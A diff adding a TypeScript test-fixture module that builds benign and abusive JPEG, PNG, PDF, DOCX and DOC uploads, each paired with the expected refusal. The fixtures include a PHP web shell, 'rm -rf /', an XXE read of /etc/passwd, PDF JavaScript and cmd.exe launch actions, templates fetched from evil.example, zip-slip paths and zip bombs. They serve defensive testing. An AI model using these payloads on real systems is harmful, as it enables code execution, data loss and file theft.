@@ -1,0 +1,590 @@
+import { crc32, deflateSync } from 'node:zlib'
+import { samplePdf, samplePng } from '#src/factories/sample-files.ts'
+import type { FileFormat } from '#src/features/documents/file-formats.ts'
+import { MAX_FILE_BYTES, type Refusal } from '#src/features/documents/upload-policy.ts'
+import { sampleCompoundFile, sampleDoc, wordStream } from './sample-doc.ts'
+import { docxEntries, relation, sampleDocx, WORD_TYPE } from './sample-docx.ts'
+import { exifSegment, sampleJpeg, segment } from './sample-jpeg.ts'
+import { sampleZip } from './sample-zip.ts'
+
+/** What must not be taken, under a name that says it were something else; `refusal`: what whoever sent it is told. */
+export type AbuseFile = { what: string; name: string; bytes: Buffer; refusal: Refusal }
+/** What must be taken, and as what. */
+export type GoodFile = { what: string; name: string; bytes: Buffer; format: FileFormat }
+
+/** The test file every scanner of viruses knows; in two parts, so that none takes this file for it. */
+export const EICAR = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`, 'latin1')
+
+export function abuseFiles(): Array<AbuseFile> {
+  return [...renamed(), ...pictures(), ...pdfs(), ...newDocuments(), ...oldDocuments()]
+}
+
+export function goodFiles(): Array<GoodFile> {
+  const script = Buffer.from('<script>document.title = "ran"</script>', 'latin1')
+  const jpeg = sampleJpeg()
+  const png = samplePng(16, 16)
+  const pdf = samplePdf('Certificate')
+  return [
+    { what: 'a JPEG', name: 'photo.jpg', bytes: jpeg, format: 'jpeg' },
+    {
+      what: 'a JPEG in scans that grow finer',
+      name: 'photo.jpeg',
+      bytes: sampleJpeg({ isProgressive: true }),
+      format: 'jpeg',
+    },
+    {
+      what: 'a JPEG of a phone',
+      name: 'IMG_0412.JPG',
+      bytes: sampleJpeg({ segments: [exifSegment(6)] }),
+      format: 'jpeg',
+    },
+    {
+      what: 'a JPEG with a script in EXIF',
+      name: 'x.jpg',
+      bytes: sampleJpeg({ segments: [segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), script]))] }),
+      format: 'jpeg',
+    },
+    { what: 'a JPEG that is a ZIP too', name: 'y.jpg', bytes: Buffer.concat([jpeg, sampleDocx()]), format: 'jpeg' },
+    {
+      what: 'a JPEG with a comment that is a program',
+      name: 'z.jpg',
+      bytes: sampleJpeg({ segments: [segment(0xfe, Buffer.from('<?php system($_GET[0]); ?>'))] }),
+      format: 'jpeg',
+    },
+    {
+      what: 'a JPEG filled up between its pieces',
+      name: 'camera.jpg',
+      bytes: sampleJpeg({ segments: [segment(0xfe, Buffer.from('a')), Buffer.from([0xff, 0x01, 0xff, 0xff, 0xff])] }),
+      format: 'jpeg',
+    },
+    { what: 'a PNG', name: 'scan.png', bytes: png, format: 'png' },
+    { what: 'a PNG with a page behind its end', name: 'scan2.png', bytes: Buffer.concat([png, script]), format: 'png' },
+    {
+      what: 'a PNG with a page as a text',
+      name: 'scan3.png',
+      bytes: withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), script])),
+      format: 'png',
+    },
+    { what: 'a PDF', name: 'certificate.pdf', bytes: pdf, format: 'pdf' },
+    {
+      what: 'a PDF whose last block is filled with zeros',
+      name: 'scanner.pdf',
+      bytes: Buffer.concat([pdf, Buffer.alloc(70_000)]),
+      format: 'pdf',
+    },
+    {
+      what: 'a PDF that was added to',
+      name: 'signed.pdf',
+      bytes: Buffer.concat([
+        pdf,
+        Buffer.from(
+          '7 0 obj\n<< >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 8 /Root 1 0 R /Prev 9 >>\nstartxref\n600\n%%EOF\r\n',
+        ),
+      ]),
+      format: 'pdf',
+    },
+    {
+      what: 'a PDF with a page of the web behind it',
+      name: 'page.pdf',
+      bytes: Buffer.concat([pdf, script]),
+      format: 'pdf',
+    },
+    {
+      what: 'a CV that names what it knows',
+      name: 'cv.pdf',
+      bytes: samplePdf('HTML/JavaScript/Launch', ['Works with /JavaScript']),
+      format: 'pdf',
+    },
+    { what: 'a DOCX', name: 'cv.docx', bytes: sampleDocx(), format: 'docx' },
+    {
+      what: 'a DOCX of Word on the web',
+      name: 'cv2.docx',
+      bytes: sampleDocx({ mainPart: 'word/document2.xml' }),
+      format: 'docx',
+    },
+    {
+      what: 'a DOCX made from a template on the writer’s disk',
+      name: 'cv3.docx',
+      bytes: sampleDocx({
+        settings: relation('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx', { isExternal: true }),
+      }),
+      format: 'docx',
+    },
+    { what: 'a DOCX that says its type for all parts', name: 'cv4.docx', bytes: typedByDefault(), format: 'docx' },
+    {
+      what: 'a DOC whose last sector is not full',
+      name: 'letter3.doc',
+      bytes: sampleDoc().subarray(0, -300),
+      format: 'doc',
+    },
+    { what: 'a DOC', name: 'letter.doc', bytes: sampleDoc(), format: 'doc' },
+    {
+      what: 'a DOC with a table in it',
+      name: 'letter2.doc',
+      bytes: sampleDoc({
+        more: [
+          { name: 'ObjectPool', holds: [{ name: '_1', holds: [{ name: 'Workbook', bytes: Buffer.alloc(4096) }] }] },
+        ],
+      }),
+      format: 'doc',
+    },
+    {
+      what: 'a short DOC',
+      name: 'note.doc',
+      bytes: sampleCompoundFile([
+        { name: 'CompObj', bytes: Buffer.alloc(700) },
+        { name: 'WordDocument', bytes: wordStream({ size: 1024 }) },
+      ]),
+      format: 'doc',
+    },
+  ]
+}
+
+/** A PDF of exactly so many bytes. */
+export function pdfOfSize(size: number): Buffer {
+  const pdf = samplePdf('Large')
+  const end = Buffer.from('\nstartxref\n0\n%%EOF\n')
+  const filler = Buffer.alloc(size - pdf.length - end.length, 'x')
+  filler.write('%')
+  return Buffer.concat([pdf, filler, end])
+}
+
+function renamed(): Array<AbuseFile> {
+  const text = (what: string, name: string, content: string): AbuseFile => ({
+    what,
+    name,
+    bytes: Buffer.from(content, 'latin1'),
+    refusal: 'type-not-allowed',
+  })
+  return [
+    { what: 'nothing', name: 'empty.pdf', bytes: Buffer.alloc(0), refusal: 'empty' },
+    { what: 'one byte', name: 'one.pdf', bytes: Buffer.from('%'), refusal: 'type-not-allowed' },
+    { what: 'one byte too many', name: 'large.pdf', bytes: pdfOfSize(MAX_FILE_BYTES + 1), refusal: 'too-large' },
+    text('a page', 'page.pdf', '<!doctype html><script>document.title = "ran"</script>'),
+    text('a page that says PDF later', 'page2.pdf', '<script>1</script>%PDF-1.4\n1 0 obj\n%%EOF'),
+    text('a drawing with a script', 'drawing.png', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
+    {
+      what: 'a program of Windows',
+      name: 'passport.pdf',
+      bytes: Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(2048)]),
+      refusal: 'type-not-allowed',
+    },
+    {
+      what: 'a program of Linux',
+      name: 'passport.jpg',
+      bytes: Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(512)]),
+      refusal: 'type-not-allowed',
+    },
+    text('a script', 'cv.docx', 'alert(1)'),
+    text('a script of a server', 'cv.jpg', '<?php system($_GET[0]); ?>'),
+    text('a script of a shell', 'cv.pdf', '#!/bin/sh\nrm -rf /'),
+    text('XML', 'cv2.docx', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+    text('GIF and a script', 'a.jpg', 'GIF89a/*\0\0*/=1;alert(1)//'),
+    text('rich text', 'letter.doc', '{\\rtf1\\ansi hello}'),
+    text('EICAR', 'eicar.pdf', EICAR.toString('latin1')),
+    {
+      what: 'a ZIP',
+      name: 'files.docx',
+      bytes: sampleZip([{ name: 'a.txt', bytes: 'a' }]),
+      refusal: 'type-not-allowed',
+    },
+    {
+      what: 'a program for Android',
+      name: 'app.docx',
+      bytes: sampleZip([{ name: 'AndroidManifest.xml' }, { name: 'classes.dex' }]),
+      refusal: 'type-not-allowed',
+    },
+    {
+      what: 'an OpenDocument text',
+      name: 'cv.docx',
+      bytes: sampleZip([{ name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true }]),
+      refusal: 'type-not-allowed',
+    },
+  ]
+}
+
+function pictures(): Array<AbuseFile> {
+  const jpeg = sampleJpeg()
+  const png = samplePng(16, 16)
+  const bad = (what: string, bytes: Buffer, refusal: Refusal = 'damaged'): AbuseFile => ({
+    what,
+    name: 'photo.jpg',
+    bytes,
+    refusal,
+  })
+  const frame = segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))
+  const scan = Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), Buffer.from([0x3f])])
+  const jpegOf = (...parts: Array<Buffer>) =>
+    Buffer.concat([Buffer.from([0xff, 0xd8]), ...parts, Buffer.from([0xff, 0xd9])])
+  return [
+    bad('only the beginning of a JPEG', Buffer.from([0xff, 0xd8, 0xff])),
+    bad(
+      'the beginning of a JPEG and a page',
+      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<script>alert(1)</script>')]),
+    ),
+    bad('a JPEG cut off', jpeg.subarray(0, -2)),
+    bad('a JPEG cut off within a table', jpeg.subarray(0, 30)),
+    bad('a JPEG without pixels', jpegOf(frame)),
+    bad('a JPEG without a frame', jpegOf(scan)),
+    bad('a JPEG with two frames', jpegOf(frame, frame, scan)),
+    bad('a JPEG whose frame comes late', jpegOf(scan, frame)),
+    bad('a JPEG in a JPEG', jpegOf(Buffer.from([0xff, 0xd8]), frame, scan)),
+    bad('a JPEG with a length of one', jpegOf(Buffer.from([0xff, 0xe0, 0, 1]), frame, scan)),
+    bad('a JPEG with a frame too short', jpegOf(segment(0xc0, Buffer.from([8, 0, 8])), scan)),
+    bad(
+      'a JPEG with a frame for three colours and room for one',
+      jpegOf(segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 3, 1, 0x11, 0])), scan),
+    ),
+    bad('a JPEG of no height', sampleJpeg({ height: 0 })),
+    bad('a JPEG of thousands of scans', jpegOf(frame, ...Array<Buffer>(1000).fill(scan))),
+    bad('a JPEG of empty pieces', jpegOf(...Array<Buffer>(30_000).fill(segment(0xfe, Buffer.alloc(0))), frame, scan)),
+    bad(
+      'a JPEG as large as a house',
+      jpegOf(segment(0xc0, Buffer.from([8, 0x75, 0x30, 0x75, 0x30, 1, 1, 0x11, 0])), scan),
+      'too-many-pixels',
+    ),
+    bad('a PNG cut off', png.subarray(0, -6)),
+    bad('a PNG with nothing in it', png.subarray(0, 8)),
+    bad('a PNG with another byte', changed(png, png.length - 20)),
+    bad(
+      'a PNG that does not begin with its header',
+      Buffer.concat([png.subarray(0, 8), chunk('tEXt', Buffer.alloc(4)), png.subarray(8)]),
+    ),
+    bad('a PNG with two headers', withChunk(png, 'IHDR', png.subarray(16, 29))),
+    bad('a PNG without pixels', pngOf(header(8, 8), chunk('IEND', Buffer.alloc(0)))),
+    bad('a PNG whose end is not empty', pngOf(header(8, 8), pixels(), chunk('IEND', Buffer.alloc(1)))),
+    bad(
+      'a PNG with a header too short',
+      pngOf(chunk('IHDR', Buffer.alloc(12)), pixels(), chunk('IEND', Buffer.alloc(0))),
+    ),
+    bad(
+      'a PNG whose pixels lie apart',
+      pngOf(header(8, 8), pixels(), chunk('tIME', Buffer.alloc(7)), pixels(), chunk('IEND', Buffer.alloc(0))),
+    ),
+    bad('a PNG with what only one program knows', withChunk(png, 'CgBI', Buffer.alloc(4))),
+    bad('a PNG with a name that is none', withChunk(png, '<!--', Buffer.alloc(4))),
+    bad('a PNG of a palette without one', pngOf(header(8, 8, [8, 3]), pixels(), chunk('IEND', Buffer.alloc(0)))),
+    bad('a PNG of a colour that is none', pngOf(header(8, 8, [8, 7]), pixels(), chunk('IEND', Buffer.alloc(0)))),
+    bad('a PNG of no width', pngOf(header(0, 8), pixels(), chunk('IEND', Buffer.alloc(0)))),
+    bad(
+      'a PNG of 30,000 × 30,000',
+      pngOf(header(30_000, 30_000), pixels(), chunk('IEND', Buffer.alloc(0))),
+      'too-many-pixels',
+    ),
+    bad(
+      'a PNG of a hundred thousand pieces',
+      pngOf(
+        header(8, 8),
+        ...Array<Buffer>(100_000).fill(chunk('IDAT', Buffer.alloc(0))),
+        chunk('IEND', Buffer.alloc(0)),
+      ),
+    ),
+  ]
+}
+
+function pdfs(): Array<AbuseFile> {
+  const bad = (what: string, bytes: Buffer, refusal: Refusal): AbuseFile => ({
+    what,
+    name: 'statement.pdf',
+    bytes,
+    refusal,
+  })
+  const holding = (object: string, trailer = '/Root 1 0 R') =>
+    Buffer.from(
+      `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n${object}\nendobj\ntrailer\n<< ${trailer} >>\nstartxref\n9\n%%EOF\n`,
+      'latin1',
+    )
+  return [
+    bad('only the beginning of a PDF', Buffer.from('%PDF-1.7\n'), 'damaged'),
+    bad('the beginning of a PDF and a page', Buffer.from('%PDF-1.7\n<script>alert(1)</script>'), 'damaged'),
+    bad('a PDF cut off', samplePdf('Statement').subarray(0, -40), 'damaged'),
+    bad('a PDF without a root', holding('<< >>', '/Size 2'), 'damaged'),
+    bad(
+      'a PDF and a ZIP',
+      Buffer.concat([
+        samplePdf('Statement'),
+        sampleDocx({ more: [{ name: 'word/a.bin', bytes: Buffer.alloc(4000, 'a'), isStored: true }] }),
+      ]),
+      'damaged',
+    ),
+    bad('a PDF with a password', holding('<< >>', '/Root 1 0 R /Encrypt 5 0 R'), 'has-password'),
+    bad(
+      'a PDF that runs a script',
+      holding('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
+      'has-script',
+    ),
+    bad('a PDF that spells it otherwise', holding('<< /OpenAction << /S /J#61va#53cript /JS (1) >> >>'), 'has-script'),
+    bad('a PDF that hides it behind a text', holding('<< /T (a \\( b (c) %) /S/JavaScript/JS(1) >>'), 'has-script'),
+    bad('a PDF that hides it behind a remark', holding('<< % (\n/S /JavaScript /JS (1) >>'), 'has-script'),
+    bad(
+      'a PDF that hides it behind pixels',
+      holding('<< /Length 9 >>\nstream\n(\xff>>stream\nendstream\nendobj\n2 0 obj\n<< /S /JavaScript >>'),
+      'has-script',
+    ),
+    bad('a PDF that starts a program', holding('<< /S /Launch /F (cmd.exe) >>'), 'has-script'),
+    bad(
+      'a PDF with a file in it',
+      holding('<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream'),
+      'has-script',
+    ),
+    bad('a PDF with a player in it', holding('<< /Subtype /RichMedia >>'), 'has-script'),
+    bad('a PDF that is a program for forms', holding('<< /AcroForm << /XFA 5 0 R >> >>'), 'has-script'),
+  ]
+}
+
+function newDocuments(): Array<AbuseFile> {
+  const bad = (what: string, bytes: Buffer, refusal: Refusal): AbuseFile => ({ what, name: 'cv.docx', bytes, refusal })
+  const types = (content: string) =>
+    sampleZip([{ name: '[Content_Types].xml', bytes: content }, ...docxEntries().slice(1)])
+  const good = docxEntries()
+  const external = (kind: string, target: string) =>
+    sampleDocx({ settings: relation(kind, target, { isExternal: true }) })
+  const office = 'application/vnd.openxmlformats-officedocument'
+  return [
+    bad('a table of Excel', sampleDocx({ mainType: `${office}.spreadsheetml.sheet.main+xml` }), 'type-not-allowed'),
+    bad(
+      'a talk of PowerPoint',
+      sampleDocx({ mainType: `${office}.presentationml.presentation.main+xml` }),
+      'type-not-allowed',
+    ),
+    bad(
+      'a template',
+      sampleDocx({ mainType: WORD_TYPE.replace('document.main', 'template.main') }),
+      'type-not-allowed',
+    ),
+    bad('a DOCM', sampleDocx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'has-macros'),
+    bad('a DOCX with macros', sampleDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] }), 'has-macros'),
+    bad(
+      'a DOCX with macros under another name',
+      types(
+        `<Types><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
+      ),
+      'has-macros',
+    ),
+    bad(
+      'a DOCX with a template of elsewhere',
+      external('attachedTemplate', 'https://evil.example/t.dotm'),
+      'needs-outside-files',
+    ),
+    bad(
+      'a DOCX with a template on a share',
+      external('attachedTemplate', '\\\\evil.example\\t.dotm'),
+      'needs-outside-files',
+    ),
+    bad(
+      'a DOCX with a template on a share as an address',
+      external('attachedTemplate', 'file://evil.example/t.dotm'),
+      'needs-outside-files',
+    ),
+    bad(
+      'a DOCX that spells it otherwise',
+      sampleDocx({
+        settings: `<r:Relationship Target='https&#58;//evil.example/t' TargetMode = "&#69;xternal" Type="a/attachedTemplate" Id="a>b"/>`,
+      }),
+      'needs-outside-files',
+    ),
+    bad(
+      'a DOCX with an object of elsewhere',
+      sampleDocx({
+        more: [
+          {
+            name: 'word/_rels/footer1.xml.rels',
+            bytes: relation('oleObject', 'mhtml:https://evil.example/x.html', { isExternal: true }),
+          },
+        ],
+      }),
+      'needs-outside-files',
+    ),
+    bad(
+      'a DOCX with a settings list of two bytes each',
+      sampleDocx({
+        more: [
+          {
+            name: 'word/_rels/webSettings.xml.rels',
+            bytes: Buffer.from(`\ufeff${relation('frame', 'https://evil.example/', { isExternal: true })}`, 'utf16le'),
+          },
+        ],
+      }),
+      'needs-outside-files',
+    ),
+    bad('a DOCX without its document', sampleZip(good.filter(({ name }) => name !== 'word/document.xml')), 'damaged'),
+    bad('a DOCX cut off', sampleDocx().subarray(0, -30), 'damaged'),
+    bad('a DOCX with bytes behind it', Buffer.concat([sampleDocx(), Buffer.alloc(100)]), 'damaged'),
+    bad('a DOCX that leads outside', sampleDocx({ more: [{ name: '../../../etc/cron.d/x' }] }), 'damaged'),
+    bad('a DOCX that names the root', sampleDocx({ more: [{ name: '/etc/passwd' }] }), 'damaged'),
+    bad('a DOCX with one name twice', sampleDocx({ more: [{ name: 'word/Document.xml', bytes: 'a' }] }), 'damaged'),
+    bad(
+      'a DOCX with a locked entry',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: 'abc', says: { flags: 1 } }] }),
+      'has-password',
+    ),
+    bad(
+      'a DOCX packed in an unknown way',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: 'abc', says: { method: 99 } }] }),
+      'damaged',
+    ),
+    bad(
+      'a bomb: 4 GB in 120 bytes',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), says: { unpacked: 0xfffffffe } }] }),
+      'damaged',
+    ),
+    bad(
+      'a bomb: nothing declared',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), says: { unpacked: 0 } }] }),
+      'damaged',
+    ),
+    bad(
+      'a bomb: thirty megabytes of one letter',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: Buffer.alloc(30_000_000, 'a') }] }),
+      'damaged',
+    ),
+    bad(
+      'a bomb: 42 that share their bytes',
+      sampleDocx({
+        more: Array.from({ length: 42 }, (_, index) => ({
+          name: `word/${index}.xml`,
+          bytes: Buffer.alloc(5000),
+          says: { at: 0 },
+        })),
+      }),
+      'damaged',
+    ),
+    bad(
+      'a bomb: a hundred thousand entries',
+      sampleZip([...good, ...Array.from({ length: 100_000 }, (_, index) => ({ name: `w${index}`, isStored: true }))]),
+      'damaged',
+    ),
+    bad('a bomb: a list of types of a megabyte', types(`<Types>${' '.repeat(1_000_000)}</Types>`), 'damaged'),
+    bad('a bomb: a list of relations of two megabytes', sampleDocx({ settings: ' '.repeat(2_000_000) }), 'damaged'),
+    bad('a list of types that is not what it says', brokenTypes(), 'damaged'),
+    bad('a directory for more than 4 GB', forLargeFiles(sampleDocx()), 'damaged'),
+    bad(
+      'entries that lie nowhere',
+      sampleDocx({ more: [{ name: 'word/a.xml', bytes: 'abc', says: { at: 0x7fffffff } }] }),
+      'damaged',
+    ),
+  ]
+}
+
+function oldDocuments(): Array<AbuseFile> {
+  const bad = (what: string, bytes: Buffer, refusal: Refusal = 'damaged'): AbuseFile => ({
+    what,
+    name: 'letter.doc',
+    bytes,
+    refusal,
+  })
+  const table = { name: 'Workbook', bytes: Buffer.alloc(4096) }
+  const good = sampleDoc()
+  const with32 = (at: number, value: number) => {
+    const copy = Buffer.from(good)
+    copy.writeUInt32LE(value, at)
+    return copy
+  }
+  const directory = (good.readUInt32LE(48) + 1) * 512
+  const tableAt = (good.readUInt32LE(76) + 1) * 512
+  return [
+    bad('a table of Excel of 1997', sampleCompoundFile([table]), 'type-not-allowed'),
+    bad(
+      'a table of Excel with a letter in it',
+      sampleCompoundFile([table, { name: 'MBD001', holds: [{ name: 'WordDocument', bytes: wordStream() }] }]),
+      'type-not-allowed',
+    ),
+    bad(
+      'a message of Outlook',
+      sampleCompoundFile([{ name: '__properties_version1.0', bytes: Buffer.alloc(64) }]),
+      'type-not-allowed',
+    ),
+    bad(
+      'a DOCX with a password',
+      sampleCompoundFile([
+        { name: 'EncryptionInfo', bytes: Buffer.alloc(200) },
+        { name: 'EncryptedPackage', bytes: Buffer.alloc(5000) },
+      ]),
+      'has-password',
+    ),
+    bad('a DOC with a password', sampleDoc({ isEncrypted: true }), 'has-password'),
+    bad(
+      'a short DOC with a password',
+      sampleCompoundFile([
+        { name: 'CompObj', bytes: Buffer.alloc(700) },
+        { name: 'WordDocument', bytes: wordStream({ size: 64, isEncrypted: true }) },
+      ]),
+      'has-password',
+    ),
+    bad(
+      'a DOC with macros',
+      sampleDoc({ more: [{ name: 'Macros', holds: [{ name: 'VBA', holds: [] }] }] }),
+      'has-macros',
+    ),
+    bad(
+      'a DOC with macros in what it holds',
+      sampleDoc({ more: [{ name: 'ObjectPool', holds: [{ name: '_VBA_PROJECT_CUR', holds: [] }] }] }),
+      'has-macros',
+    ),
+    bad('a stream of letters that is none', sampleCompoundFile([{ name: 'WordDocument', bytes: Buffer.alloc(4096) }])),
+    bad('an empty stream of letters', sampleCompoundFile([{ name: 'WordDocument', bytes: Buffer.alloc(0) }])),
+    bad('only the beginning of a DOC', good.subarray(0, 300)),
+    bad('a DOC cut off before its table', good.subarray(0, 2000)),
+    bad('a DOC in another order of bytes', changed(good, 28)),
+    bad('a DOC with sectors of no size', changed(good, 30)),
+    bad('a DOC without a table', with32(44, 0)),
+    bad('a DOC with a table as large as the world', with32(44, 0xffffffff)),
+    bad('a DOC whose table lies nowhere', with32(76, 0x00ffffff)),
+    bad('a DOC whose directory lies nowhere', with32(48, 0x7fffffff)),
+    bad('a DOC whose directory has no root', changed(good, directory + 66)),
+    bad('a DOC whose directory bites its tail', with32(tableAt + good.readUInt32LE(48) * 4, good.readUInt32LE(48))),
+    bad('a DOC whose root is its own child', with32(directory + 76, 0), 'type-not-allowed'),
+  ]
+}
+
+/** As some writers do: every part that ends in XML is the document, or says otherwise. */
+function typedByDefault(): Buffer {
+  const types = `<Types><Default Extension='xml' ContentType='${WORD_TYPE}' /></Types>`
+  return sampleZip([{ name: '[Content_Types].xml', bytes: types }, ...docxEntries().slice(1)])
+}
+
+/** Its first entry lies about what it holds: more bytes come than are said. */
+function brokenTypes(): Buffer {
+  const [types, ...rest] = docxEntries()
+  return sampleZip([{ ...types, name: '[Content_Types].xml', says: { unpacked: 300 } }, ...rest])
+}
+
+/** With the locator of a directory for large files, which leads past all that can be read. */
+function forLargeFiles(zip: Buffer): Buffer {
+  const locator = Buffer.concat([Buffer.from('PK\x06\x07', 'latin1'), Buffer.alloc(16, 0xff)])
+  return Buffer.concat([zip.subarray(0, -22), locator, zip.subarray(-22)])
+}
+
+function changed(bytes: Buffer, at: number): Buffer {
+  const copy = Buffer.from(bytes)
+  copy[at] = (copy[at] ?? 0) ^ 0xff
+  return copy
+}
+
+function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
+  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)])
+}
+
+function pngOf(...chunks: Array<Buffer>): Buffer {
+  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks])
+}
+
+function header(width: number, height: number, [depth, colour]: readonly [number, number] = [8, 0]): Buffer {
+  const data = Buffer.alloc(13)
+  data.writeUInt32BE(width, 0)
+  data.writeUInt32BE(height, 4)
+  data.set([depth, colour], 8)
+  return chunk('IHDR', data)
+}
+
+function pixels(): Buffer {
+  return chunk('IDAT', deflateSync(Buffer.alloc(72)))
+}
+
+/** A chunk of a PNG: its length, its name, its data, its sum. */
+export function chunk(type: string, data: Buffer): Buffer {
+  const written = Buffer.concat([Buffer.alloc(4), Buffer.from(type, 'latin1'), data, Buffer.alloc(4)])
+  written.writeUInt32BE(data.length)
+  written.writeUInt32BE(crc32(written.subarray(4, -4)), written.length - 4)
+  return written
+}
